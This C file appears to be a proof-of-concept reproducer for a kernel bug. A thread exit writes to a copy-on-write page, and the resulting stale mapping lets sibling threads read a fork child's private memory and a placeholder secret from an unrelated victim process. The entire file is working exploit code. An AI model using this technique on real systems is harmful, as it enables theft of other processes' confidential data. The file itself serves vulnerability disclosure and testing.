/* Cross-guest memory read through a stale host mapping.
 *
 * A thread's exit writes 0 at its clear_child_tid (kernel exitThread ->
 * mm.writeU32). If that page is copy-on-write after a fork, the write breaks
 * COW in the page table (breakCow: new frame, put(old)) and queues the host
 * remap -- but the exiting thread is parked, never resumed, so nothing
 * flushes the queue. The process's other threads keep the old frame mapped
 * (read-only) while its last reference now belongs to the fork child. A
 * sibling that spins without trapping then reads:
 *   1. the child's private writes made after the fork, and
 *   2. once the child munmaps it, the frame is reused by an unrelated
 *      process (here: /cow_exit_leak victim, exec'd by a second child),
 *      whose secret the attacker reads.
 * Exit 0 and "LEAK" = finding; exit 1 = no leak.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile char *X;

static void *exiter(void *arg) {
  (void)arg;
  syscall(SYS_set_tid_address, (void *)X);  /* clear_child_tid = X (a COW page) */
  syscall(SYS_exit, 0);                        /* the kernel writes 0 at X: breakCow, queued, never flushed */
  return NULL;
}

static unsigned long long rdtsc(void) {
  unsigned lo, hi;
  __asm__ volatile("rdtsc" : "=a"(lo), "=d"(hi));
  return ((unsigned long long)hi << 32) | lo;
}

static void msleep(int ms) {
  struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
  nanosleep(&ts, NULL);
}

int main(int argc, char **argv) {
  if (argc > 1 && !strcmp(argv[1], "victim")) {
    /* an unrelated program: at 700 ms it allocates memory and keeps a secret there */
    msleep(700);
    char *p = mmap(NULL, 4096 * 64, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    for (int i = 0; i < 64; i++) strcpy(p + i * 4096 + 100, "VICTIM-SECRET-0xC0FFEE");
    msleep(1500);
    return 0;
  }
  X = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  strcpy((char *)X + 16, "PARENT-ORIGINAL");
  pid_t v = fork();
  if (v == 0) {
    char *av[] = {"/cow_exit_leak", "victim", NULL};
    execv(av[0], av);
    _exit(3);
  }
  pid_t c = fork();
  if (c == 0) {
    msleep(300);
    strcpy((char *)X + 16, "CHILD-PRIVATE-WRITE");   /* the child's own page now */
    msleep(200);
    munmap((void *)X, 4096);                          /* its frame goes back to physmem */
    msleep(3000);
    _exit(0);
  }
  /* spin with no syscalls and no faults: the stale mapping stays */
  static char snaps[12][4096];
  memset(snaps, 1, sizeof snaps); /* fault these in before the window */
  int n = 0;
  unsigned long long sum0 = 0;
  pthread_t t;
  pthread_create(&t, NULL, exiter, NULL);
  unsigned long long t0 = rdtsc();
  while (rdtsc() - t0 < 8000000000ULL && n < 12) {
    unsigned long long sum = 0;
    for (int i = 0; i < 4096; i += 8) sum = sum * 31 + *(volatile unsigned long long *)(X + i);
    if (sum != sum0) {
      sum0 = sum;
      memcpy(snaps[n++], (const void *)X, 4096);
      if (memmem((const void *)X, 4096, "VICTIM-SECRET", 13)) break;
    }
  }
  int leak = 0;
  for (int k = 0; k < n; k++) {
    char *snap = snaps[k];
    int nz = 0;
    for (int i = 0; i < 4096; i++) nz += snap[i] != 0;
    printf("parent's view of X, change %d: %d nonzero bytes; strings:", k, nz);
    int shown = 0;
    for (int i = 0; i < 4096 && shown < 4; i++) {
      int j = i;
      while (j < 4096 && snap[j] >= 32 && snap[j] < 127) j++;
      if (j - i >= 5) { printf(" \"%.*s\"", j - i > 40 ? 40 : j - i, snap + i); i = j; shown++; }
    }
    printf("\n");
    if (memmem(snap, 4096, "CHILD-PRIVATE", 13)) leak |= 1;
    if (memmem(snap, 4096, "VICTIM-SECRET", 13)) leak |= 2;
  }
  waitpid(c, NULL, 0);
  waitpid(v, NULL, 0);
  if (leak & 1) printf("LEAK: read the fork child's private write\n");
  if (leak & 2) printf("LEAK: read an unrelated process's secret\n");
  if (!leak) printf("no leak\n");
  return leak ? 0 : 1;
}
